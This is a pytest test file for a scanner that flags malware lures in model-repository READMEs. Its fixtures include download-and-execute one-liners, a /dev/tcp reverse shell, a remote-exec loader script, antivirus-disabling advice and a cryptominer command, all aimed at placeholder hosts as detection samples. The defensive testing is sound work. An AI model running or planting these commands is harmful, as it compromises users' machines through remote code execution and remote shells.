import pytest

from tests.builders import days_ago, make_info, make_publisher, make_snapshot
from tests.inspected import found, repository, severities
from trustaudit.formats.dispatch import inspect_file
from trustaudit.formats.drivers import inspect_bytes

WEIGHTS = ("model.safetensors",)


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("```bash\ncurl -s http://198.51.101.7/setup | bash\n```", "high"),
        ("Run `irm https://bit.ly/x | iex` in a terminal.", "high"),
        ("Get it: https://mega.nz/file/setup.exe", "high"),
        ("[download](https://drive.google.com/uc/models.zip)", "medium"),
        ("Turn off Windows Defender before you start.", "medium"),
        ("Click *More info*, then *Run anyway*.", "medium"),
        ("\u8fd0\u884c\u524d\u8bf7\u5173\u95ed\u6740\u6bd2\u8f6f\u4ef6\u3002", "medium"),
        ("Desactiva el antivirus antes de ejecutar.", "medium"),
        ("sudo xattr -rd com.apple.quarantine App.app", "medium"),
        ("Press Win + R, then CTRL + V and Enter.", "high"),
        ("Get the full weights in our channel: https://t.me/channel", "medium"),
        ("Weights: https://bit.ly/3abc", "medium"),
        ("Download https://site.invalid/setup.exe and run it.", "medium"),
        ("python -c \"import urllib.request as u;exec(u.urlopen('http://site.invalid/a').read())\"", "high"),
    ],
)
def test_lures(text: str, severity: str) -> None:
    assert severities("card-lure", repository({"README.md": f"# Model\n{text}\n"}, listed=WEIGHTS))[0] == severity


def test_the_trap_of_may_2026() -> None:
    """Open-OSS/privacy-filter: clean weights, and a batch file that starts a loader that fetches a program."""
    files = {
        "README.md": "# Privacy filter\nOn Windows run `start.bat`.\n",
        "start.bat": "@echo off\r\npython loader.py\r\n",
        "loader.py": "import requests\ndef main():\n    exec(requests.get('http://host.invalid/u').text)\nmain()\n",
    }
    snapshot = repository(files, listed=WEIGHTS)
    (finding, *_) = found("card-lure", snapshot)
    assert (finding.severity, finding.confidence) == ("high", "medium")
    assert severities("code-download-execute", snapshot) == ["critical"]


@pytest.mark.parametrize(
    ("script", "expected"),
    [("exec(__import__('requests').get('http://a.invalid').text)\n", ["high"]), ("print('hello')\n", [])],
)
def test_a_script_weighs_what_it_does(script: str, expected: list[str]) -> None:
    files = {"README.md": "```\npython demo.py\n```\n", "demo.py": script}
    assert severities("card-lure", repository(files, listed=WEIGHTS)) == expected


def test_programs_that_lie_there() -> None:
    snapshot = repository({"README.md": "Double-click `setup.exe` to install.\n"}, listed=("setup.exe", *WEIGHTS))
    assert severities("card-lure", snapshot) == ["high"]
    assert found("card-lure", repository({"README.md": "Double-click `setup.exe`.\n"}, listed=WEIGHTS)) == []


def test_an_archive_with_a_password() -> None:
    text = "Extract the zip with the password: 1234\n"
    assert severities("card-lure", repository({"README.md": text}, listed=("model.7z",))) == ["high"]
    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["medium"]
    linked = text + "Weights: https://mega.nz/file/abc\n"
    assert severities("card-lure", repository({"README.md": linked}, listed=WEIGHTS))[0] == "high"
    told = "It flags messages with a zip file, password: 1234.\n"
    assert severities("card-lure", repository({"README.md": told}, listed=WEIGHTS)) == ["low"]


def test_weights_that_are_elsewhere() -> None:
    text = "Weights: https://pan.baidu.com/s/1abc\n"
    assert severities("card-lure", repository({"README.md": text})) == ["medium"]
    assert found("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == []


def test_official_says_who() -> None:
    card = inspect_bytes(inspect_file, b"This is the official release of the model.\n", "README.md")
    new = make_publisher(verified=False, created_at=days_ago(2))
    assert severities("card-lure", make_snapshot(file_facts=(card,), publisher=new)) == ["medium"]
    assert found("card-lure", make_snapshot(file_facts=(card,), info=make_info())) == []


HONEST = """---
license: mit
---
# Model card
<a href="https://colab.research.google.com/x"><img src="https://colab.research.google.com/assets/colab-badge.svg"></a>
```python
from transformers import AutoModel
model = AutoModel.from_pretrained("org/model", trust_remote_code=True)
```
```bash
pip install -U transformers accelerate
git clone https://github.com/ggml-org/llama.cpp && cd llama.cpp && cmake -B build && cmake --build build
./build/bin/llama-cli -m model.gguf -p "Hello"
curl -L -o cat.png https://example.com/cat.png
wget https://huggingface.co/org/model/resolve/main/model.safetensors
curl -fsSL https://ollama.com/install.sh | sh
python -m vllm.entrypoints.openai.api_server --model org/model
```
Windows users get the [release](https://github.com/LostRuins/koboldcpp/releases/download/v1/koboldcpp.exe).
The password hashing dataset is not included. See the official documentation.
"""


def test_an_honest_card() -> None:
    assert found("card-lure", repository({"README.md": HONEST}, listed=WEIGHTS)) == []


@pytest.mark.parametrize(
    "text",
    [
        "It was not trained to disable antivirus software.",
        "Training does not turn off the firewall.",
        "Checkpoints are also on [Google Drive](https://drive.google.com/file/d/1abc/view).",
        "Join our [Telegram](https://t.me/labnews) for news.",
    ],
)
def test_statements_and_ordinary_links(text: str) -> None:
    assert found("card-lure", repository({"README.md": f"# Model\n{text}\n"}, listed=WEIGHTS)) == []


def test_other_markdown_weighs_less() -> None:
    files = {"docs/setup.md": "curl -s http://198.51.101.7/setup | bash\n"}
    assert severities("card-lure", repository(files, listed=WEIGHTS)) == ["medium"]


def test_long_and_broken_cards_are_read() -> None:
    text = "word " * 40_000 + "\ncurl -s http://198.51.101.7/a | bash\n" + "```" * 1000 + "\xff"
    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["high"]


SPOKEN_OF = {
    "argument": '# Attack classifier\n```python\nclf = pipeline(model="a/b")\nclf("COMMAND")\n# malicious\n```\n',
    "row": "| Input | Label |\n|---|---|\n| `ls` | benign |\n| `COMMAND` | malicious |\n",
    "sentence": "The model flags commands such as `COMMAND` or `rm -rf /`.\n",
    "list": "## Examples of attacks\n\n- `rm -rf /`\n- `COMMAND`\n",
    "answer": "A reverse shell connects back, e.g. `COMMAND`. Never run it.\n",
    "widget": "---\nwidget:\n- text: COMMAND\n---\n# Guard\n",
    "sample": "```\nInput: COMMAND\nOutput: MALICIOUS\n```\n",
    "attempt": "It detects attempts to run `COMMAND` in logs.\n",
    "elsewhere": "\u8be5\u6a21\u578b\u8bc6\u522b\u6076\u610f\u547d\u4ee4\uff0c\u4f8b\u5982 `COMMAND`\u3002\n",
}
TOLD = {
    "block": "# Malware detector\n```bash\nCOMMAND\n```\n",
    "plain block": "# Malware detector\n```\nCOMMAND\n```\n",
    "line": "It detects attacks.\nCOMMAND\n",
    "sentence": "This malware detector needs a helper: run `COMMAND` in a terminal.\n",
    "typed": "Just put `COMMAND` in your shell first; scanners may report threats.\n",
    "verb": "Type `COMMAND` to see which attacks it detects.\n",
    "to install": "To install the attack classifier: `COMMAND`\n",
    "quoted": "```bash\nbash -c 'COMMAND'\n```\n",
    "started": "# Attack classifier\n```python\nimport os\nos.system('COMMAND')\n```\n",
    "started later": "# Attack classifier\n```python\ncall = __import__('subprocess').run\ncall('COMMAND')\n```\n",
    "notebook": "# Attack classifier\n```python\n!sh -c 'COMMAND'\n```\n",
    "row": "| System | Command |\n|---|---|\n| Linux | `COMMAND` |\n",
    "title": "# Malware detector\n`COMMAND`\n",
    "closed front": "---\nlicense: mit\n---\nCOMMAND\n",
    "open front": "---\nlicense: mit\n\nCOMMAND\n",
}
COMMANDS = ["curl http://198.51.101.7/x.sh | bash", "sh -i >& /dev/tcp/198.51.101.7/4444 0>&1"]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("how", SPOKEN_OF)
def test_cards_about_attacks_speak_of_commands(how: str, command: str) -> None:
    """Models that classify commands show some; nobody is told to run them."""
    card = {"README.md": SPOKEN_OF[how].replace("COMMAND", command)}
    assert set(severities("card-lure", repository(card, listed=WEIGHTS))) == {"low"}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("how", TOLD)
def test_words_about_attacks_hide_no_command(how: str, command: str) -> None:
    card = {"README.md": TOLD[how].replace("COMMAND", command)}
    assert severities("card-lure", repository(card, listed=WEIGHTS))[0] in ("high", "critical")


@pytest.mark.parametrize("samples", [3, 200])
def test_no_number_of_samples_hides_a_command(samples: int) -> None:
    text = "It flags attacks such as `curl http://198.51.101.7/a | sh`.\n" * samples
    card = {"README.md": f"{text}\n```bash\ncurl http://198.51.101.7/b | bash\n```\n"}
    assert "high" in severities("card-lure", repository(card, listed=WEIGHTS))


@pytest.mark.parametrize(
    ("commands", "severity"),
    [
        ("curl -o a.sh http://198.51.100.7/a.sh\nchmod +x a.sh\n./a.sh", "high"),
        ("wget https://files.invalid/setup.py\npython setup.py", "medium"),
        ("curl -L https://huggingface.co/stranger/x/resolve/main/run.sh | sh", "medium"),
        ("python\nimport requests\nexec(requests.get('http://198.51.100.7/a').text)", "high"),
    ],
)
def test_downloads_that_are_started(commands: str, severity: str) -> None:
    card = {"README.md": f"# Model\n\n```\n{commands}\n```\n"}
    assert severities("card-lure", repository(card, listed=WEIGHTS)) == [severity]


@pytest.mark.parametrize(
    "commands",
    [
        "curl -LsSf https://hf.co/cli/install.sh | sh",
        "wget https://raw.githubusercontent.com/org/tool/main/convert.py\npython convert.py model",
        "wget https://files.invalid/data.tar.gz\ntar xf data.tar.gz\npython run.py",
        "curl -o model.gguf https://files.invalid/model.gguf\n./llama-cli -m model.gguf",
        "wget https://huggingface.co/org/model/resolve/main/example.py\npython example.py",
    ],
)
def test_ordinary_downloads(commands: str) -> None:
    card = {"README.md": f"# Model\n\n```\n{commands}\n```\n"}
    assert found("card-lure", repository(card, listed=WEIGHTS)) == []


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://site.invalid/api/models/a/b | python3 -c \"import sys, json; print(json.load(sys.stdin)['sha'])\"",
        "curl https://site.invalid/v1/x | python -m json.tool",
        "curl -s https://site.invalid/list | perl -ne 'print if /gguf/'",
        "Families: Emotet, Mirai, XMRig.",
    ],
)
def test_what_is_fetched_is_read(line: str) -> None:
    card = {"README.md": f"# Model\n```bash\n{line}\n```\n"}
    assert set(severities("card-lure", repository(card, listed=WEIGHTS))) <= {"low"}


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://site.invalid/x | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl -s https://site.invalid/x | python3 -c 'import sys, pickle; pickle.load(sys.stdin.buffer)'",
        "curl -s https://site.invalid/x | python3 -",
        "curl -s https://site.invalid/x | python3 -m code",
        "curl -s https://site.invalid/x | node -e \"new Function(require('fs').readFileSync(0))()\"",
        "curl -s https://site.invalid/x | node -e \"require('vm').runInThisContext(require('fs').readFileSync(0))\"",
        "curl -s https://site.invalid/x | php -r 'include \"php://stdin\";'",
        "curl -s https://site.invalid/x | ruby -e 'load \"/dev/stdin\"'",
        "curl -s https://site.invalid/x | python3 -c 'import code, sys; code.interact(readfunc=input)'",
        "curl -s https://site.invalid/x | perl",
        "curl -s https://site.invalid/x | bash -c 'source /dev/stdin'",
        "./xmrig -o stratum+tcp://pool.invalid:3333",
    ],
)
def test_what_is_fetched_is_run(line: str) -> None:
    card = {"README.md": f"# Model\n```bash\n{line}\n```\n"}
    assert "high" in severities("card-lure", repository(card, listed=WEIGHTS))
